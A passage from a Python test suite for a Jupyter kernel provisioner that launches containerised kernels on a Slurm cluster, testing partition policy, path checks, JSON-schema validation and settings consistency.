    assert policy_problems(parse({"image": IMAGE}), 8, []) == []
    assert policy_problems(parse({"image": IMAGE, "partition": "batch"}), 8, []) == []
    assert policy_problems(parse({"image": IMAGE, "partition": "batch"}), 8, allowed) == [
        "partition 'batch' is not offered for kernels; choose one of H100, A100"
    ]


def test_policy_refuses_slurms_default_partition_where_partitions_are_limited() -> None:
    """No partition means Slurm's default one, which the site's list may not hold."""
    assert policy_problems(parse({"image": IMAGE}), 8, ["H100", "A100"]) == [
        (
            "partition: none is chosen, so Slurm would use its default one, which may not be offered for kernels; "
            "choose one of H100, A100"
        )
    ]


@pytest.mark.parametrize(
    ("partition", "site_partition", "allowed", "expected"),
    [
        ("", "A100", ["H100", "A100"], "A100"),  # the site's default, where it is allowed
        ("", "batch", ["H100", "A100"], ""),  # not allowed: left to policy_problems to refuse
        ("", "", ["H100", "A100"], ""),  # no site default: likewise
        ("", "batch", [], ""),  # no limit: Slurm's default partition is fine
        ("H100", "A100", ["H100", "A100"], "H100"),  # the kernel's own choice stays
    ],
)
def test_a_kernel_without_a_partition_gets_the_sites_default_where_partitions_are_limited(
    partition: str, site_partition: str, allowed: list[str], expected: str
) -> None:
    config = parse({"image": IMAGE, "partition": partition})
    assert with_site_partition(config, site_partition, allowed).partition == expected


def test_policy_reports_both_problems() -> None:
    config = parse({"image": IMAGE, "partition": "batch", "gpus": 9})
    assert len(policy_problems(config, 8, ("H100",))) == 2


def test_path_problems_all_present() -> None:
    existing = {IMAGE, "/netscratch/alice", "/ds"}
    asked: list[str] = []

    def exists(path: str) -> bool:
        asked.append(path)
        return path in existing

    assert path_problems(parse(ASGARD_PYTORCH), exists) == []
    assert asked == [IMAGE, "/netscratch/alice", "/ds"]


def test_path_problems_missing_image_and_mount() -> None:
    config = parse({"image": "/enroot/typo.sqsh", "mounts": ["/netscratch/$USER:/data:ro", "/ds:/ds"]})
    assert path_problems(config, {"/ds"}.__contains__) == [
        "image /enroot/typo.sqsh does not exist on the Jupyter server's host: check the path "
        "(images are .sqsh files, e.g. in /enroot)",
        "mount source /netscratch/alice does not exist: create it or fix the mount /netscratch/alice:/data:ro",
    ]


def test_path_problems_skip_registry_images_special_and_relative_sources() -> None:
    config = parse(
        {
            "image": "docker://nvcr.io#nvidia/pytorch:24.05-py3",
            "mounts": ["tmpfs:/scratch", "umount:/opt/x", "./code:/code"],
        }
    )
    asked: list[str] = []

    def exists(path: str) -> bool:
        asked.append(path)
        return False

    assert path_problems(config, exists) == []
    assert asked == []


# --- JSON schema ------------------------------------------------------------------------------


def test_json_schema_is_valid_and_lists_every_field() -> None:
    schema = json_schema()
    Draft202012Validator.check_schema(schema)
    assert list(schema["properties"]) == LaunchConfig.keys()
    assert schema["required"] == ["image"]
    assert schema["additionalProperties"] is False
    for name, prop in schema["properties"].items():
        assert prop["description"], name
        assert "type" in prop, name
    json.dumps(schema)  # serialisable for the REST API


def test_json_schema_accepts_the_examples_parse_accepts() -> None:
    validator = Draft202012Validator(json_schema())
    full = {
        "image": "docker://nvcr.io#nvidia/pytorch:24.05-py3",
        "mounts": ["/ds:/ds:ro"],
        "workdir": "/w",
        "container_name": "t:create",
        "container_writable": True,
        "container_remap_root": None,
        "container_mount_home": False,
        "container_env": ["HF_HOME"],
        "partition": "H100",
        "gpus": "h100:2",
        "cpus_per_task": 8,
        "mem": "32G",
        "time": "8:00:00",
        "account": "a",
        "qos": "q",
        "reservation": "r",
        "constraint": "ib",
        "srun_args": ["--gpu-bind=closest"],
        "salloc_args": ["--mail-type=END"],
    }
    for example in (ASGARD_PYTORCH, {**ASGARD_PYTORCH, "gpus": "h100:2"}, full, parse(full).to_json()):
        assert list(validator.iter_errors(example)) == []
        parse(example)


@pytest.mark.parametrize(
    "example",
    [
        {},
        {"image": ""},
        {"image": IMAGE, "mounts": "/ds:/ds"},
        {"image": IMAGE, "gpus": True},
        {"image": IMAGE, "cpus_per_task": "abc"},
        {"image": IMAGE, "cpus_per_task": -1},
        {"image": IMAGE, "container_writable": "yes"},
        {"image": IMAGE, "colour": "blue"},
        {"image": IMAGE, "mounts": ["/ds", 1]},
    ],
)
def test_json_schema_and_parse_both_refuse_wrong_types(example: dict[str, Any]) -> None:
    validator = Draft202012Validator(json_schema())
    assert list(validator.iter_errors(example)) != []
    with pytest.raises(LaunchConfigError):
        parse(example)


@pytest.mark.parametrize("key", ["cpus_per_task", "gpus"])
def test_schema_valid_whole_float_is_accepted_by_parse(key: str) -> None:
    example = {"image": IMAGE, key: json.loads("4.0")}
    assert list(Draft202012Validator(json_schema()).iter_errors(example)) == []
    config = parse(example)
    assert getattr(config, key) == {"cpus_per_task": 4, "gpus": "4"}[key]


def test_the_provisioners_launch_traits_are_launch_configs_fields() -> None:
    """Declared one by one for type checkers, yet one fact: the same names, defaults and help."""
    from dataclasses import fields

    from jupyter_asgard.site.site_policy import LaunchSettings

    traits = LaunchSettings.class_traits(config=True)
    assert sorted(traits) == sorted(spec.name for spec in fields(LaunchConfig))
    for spec in fields(LaunchConfig):
        default = list(spec.default) if isinstance(spec.default, tuple) else spec.default
        assert (traits[spec.name].default(), traits[spec.name].help) == (default, spec.metadata["help"])


def test_mypy_strict_reports_a_misspelled_provisioner_setting(tmp_path: Path) -> None:
    """The site's settings are statically declared: a typo is an error, not Any."""
    snippet = tmp_path / "site_snippet.py"
    snippet.write_text(
        "from jupyter_asgard.kernel.provisioner import PyxisProvisioner\n\n\n"
        "def limits(provisioner: PyxisProvisioner) -> tuple[float, str]:\n"
        "    return provisioner.queue_timeout, provisioner.partition\n\n\n"
        "def typo(provisioner: PyxisProvisioner) -> object:\n"
        "    return provisioner.queue_timeoutt\n"
    )
    result = subprocess.run(
        [sys.executable, "-m", "mypy", "--strict", str(snippet)], cwd=REPO, capture_output=True, text=True
    )
    errors = [line for line in result.stdout.splitlines() if ": error:" in line]
    assert len(errors) == 1 and '"PyxisProvisioner" has no attribute "queue_timeoutt"' in errors[0], result.stdout
